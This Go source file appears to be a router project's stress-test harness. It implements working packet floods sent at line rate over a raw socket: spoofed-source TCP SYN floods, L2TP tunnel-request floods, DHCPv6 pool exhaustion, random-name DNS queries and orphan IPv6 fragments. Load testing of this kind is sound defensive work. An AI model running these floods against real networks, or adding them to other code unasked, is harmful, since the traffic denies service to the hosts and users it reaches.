// Package attack floods a router's daemons as fast as one core sends, and asks them
// meanwhile for what their users want of them.
package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"runtime"
	"time"

	"golang.org/x/sys/unix"

	"weft/wire/checksum"
	"weft/wire/dhcp6"
	"weft/wire/ipv6"
	"weft/wire/l2tp"
)

// Kind is what a flood consists of.
type Kind string

const (
	SCCRQ     Kind = "sccrq"     // requests for L2TP tunnels, from addresses of the network of To
	Forged    Kind = "forged"    // such requests from the address and port of From, with any tunnel id
	DHCPv6    Kind = "dhcpv6"    // clients that ask for an address and a prefix, each another
	DNS       Kind = "dns"       // queries of From, each for another name
	Fragments Kind = "fragments" // first fragments of datagrams of From, which have no others
	SYN       Kind = "syn"       // beginnings of TCP connections from all over the world to To
)

// Kinds returns all kinds.
func Kinds() []Kind { return []Kind{SCCRQ, Forged, DHCPv6, DNS, Fragments, SYN} }

// Flood is one.
type Flood struct {
	Kind     Kind
	Device   string
	Router   net.HardwareAddr
	From, To netip.AddrPort
	For      time.Duration
}

// different is how many frames a flood has. They are made before it begins.
const different = 1 << 13

// frame returns one frame.
func (f Flood) frame(r *rand.Rand, source net.HardwareAddr) ([]byte, error) {
	to, ip := f.Router, []byte(nil)
	four := func(last byte) netip.Addr { a := f.To.Addr().As4(); a[3] = last; return netip.AddrFrom4(a) }
	switch f.Kind {
	case SCCRQ:
		ip = udp4(netip.AddrPortFrom(four(byte(20+r.IntN(230))), uint16(1024+r.IntN(60000))), f.To, request(r))
	case Forged:
		ip = udp4(f.From, f.To, request(r))
	case SYN:
		from := netip.AddrPortFrom(netip.AddrFrom4([4]byte{byte(16 + r.IntN(80)), byte(r.IntN(256)), byte(r.IntN(256)), byte(1 + r.IntN(254))}), uint16(1024+r.IntN(60000)))
		ip = syn(from, f.To)
	case DHCPv6:
		b, err := solicit(r)
		if err != nil {
			return nil, err
		}
		from := netip.AddrFrom16([16]byte{0: 0xfe, 1: 0x80, 12: byte(r.IntN(256)), 13: byte(r.IntN(256)), 14: byte(r.IntN(256)), 15: byte(r.IntN(256))})
		to = net.HardwareAddr{0x33, 0x33, 0, 1, 0, 2}
		ip = ipv6.MarshalUDP(from, netip.MustParseAddr("ff02::1:2"), dhcp6.ClientPort, dhcp6.ServerPort, b)
	case DNS:
		name := fmt.Sprintf("%08x", r.Uint32())
		q := append([]byte{byte(r.IntN(256)), byte(r.IntN(256)), 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 8}, name...)
		ip = ipv6.MarshalUDP(f.From.Addr(), f.To.Addr(), uint16(1024+r.IntN(60000)), 53, append(q, 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 28, 0, 1))
	case Fragments:
		b := append([]byte{17, 0, 0, 1}, binary.BigEndian.AppendUint32(nil, r.Uint32())...)
		ip = ipv6.Packet{From: f.From.Addr(), To: f.To.Addr(), NextHeader: 44, HopLimit: 64, Payload: append(b, 15, 160, 0, 53, 4, 0, 1, 1)}.Marshal(14)
	default:
		return nil, fmt.Errorf("there is no flood %q", f.Kind)
	}
	ether := []byte{0x86, 0xdd}
	if ip[0]>>4 == 4 {
		ether = []byte{8, 0}
	}
	return append(append(append(append([]byte{}, to...), source...), ether...), ip...), nil
}

func request(r *rand.Rand) []byte {
	id := uint16(1 + r.IntN(65535))
	m := l2tp.New(l2tp.SCCRQ).AddUint16(l2tp.ProtocolVersion, 0x0100).Add(l2tp.HostName, []byte("evil")).AddUint32(l2tp.FramingCapabilities, 3).AddUint16(l2tp.AssignedTunnelID, id)
	return l2tp.Control{Body: m.Marshal()}.Marshal()
}

func solicit(r *rand.Rand) ([]byte, error) {
	id := binary.BigEndian.AppendUint32([]byte{0, 3, 0, 1, 2, 6}, r.Uint32())
	ia := []dhcp6.IA{{ID: [4]byte{3: 1}}}
	return (&dhcp6.Message{Type: dhcp6.Solicit, Transaction: [3]byte{byte(r.IntN(256)), 1, 2}, ClientID: id, RapidCommit: true, Addresses: ia, Prefixes: ia}).Marshal()
}

func udp4(from, to netip.AddrPort, data []byte) []byte {
	b := binary.BigEndian.AppendUint16(nil, from.Port())
	b = binary.BigEndian.AppendUint16(b, to.Port())
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(data)))
	return ip4(from.Addr(), to.Addr(), 17, append(append(b, 0, 0), data...)) // UDP over IPv4 may go without checksum
}

func syn(from, to netip.AddrPort) []byte {
	b := make([]byte, 20)
	binary.BigEndian.PutUint16(b, from.Port())
	binary.BigEndian.PutUint16(b[2:], to.Port())
	binary.BigEndian.PutUint32(b[4:], 1)
	b[12], b[13] = 5<<4, 2
	binary.BigEndian.PutUint16(b[14:], 64240)
	pseudo := append(append(from.Addr().AsSlice(), to.Addr().AsSlice()...), 0, 6, 0, 20)
	binary.BigEndian.PutUint16(b[16:], checksum.Of(append(pseudo, b...)))
	return ip4(from.Addr(), to.Addr(), 6, b)
}

func ip4(from, to netip.Addr, protocol byte, body []byte) []byte {
	b := make([]byte, 20, 20+len(body))
	b[0], b[8], b[9] = 0x45, 64, protocol
	binary.BigEndian.PutUint16(b[2:], uint16(20+len(body)))
	copy(b[12:], from.AsSlice())
	copy(b[16:], to.AsSlice())
	binary.BigEndian.PutUint16(b[10:], checksum.Of(b))
	return append(b, body...)
}

// Run sends until its time is over or ctx ends. It calls begun when as many as there are
// different ones are sent, and returns how many it sent, and for how long.
func (f Flood) Run(ctx context.Context, seed uint64, begun func()) (sent int, took time.Duration, err error) {
	device, err := net.InterfaceByName(f.Device)
	if err != nil {
		return 0, 0, fmt.Errorf("send on %s: %w", f.Device, err)
	}
	r := rand.New(rand.NewPCG(seed, 1))
	frames := make([][]byte, different)
	for i := range frames {
		if frames[i], err = f.frame(r, device.HardwareAddr); err != nil {
			return 0, 0, err
		}
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return 0, 0, fmt.Errorf("open packet socket: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptInt(fd, unix.SOL_PACKET, unix.PACKET_QDISC_BYPASS, 1); err != nil {
		return 0, 0, fmt.Errorf("set up packet socket: %w", err)
	}
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	to := &unix.SockaddrLinklayer{Ifindex: device.Index}
	start := time.Now()
	for ; sent%256 != 0 || ctx.Err() == nil && time.Since(start) < f.For; sent++ {
		if sent == different {
			begun()
		}
		if err := unix.Sendto(fd, frames[sent%different], 0, to); err != nil && !errors.Is(err, unix.ENOBUFS) {
			return sent, time.Since(start), fmt.Errorf("send on %s: %w", f.Device, err)
		}
	}
	return sent, time.Since(start), nil
}
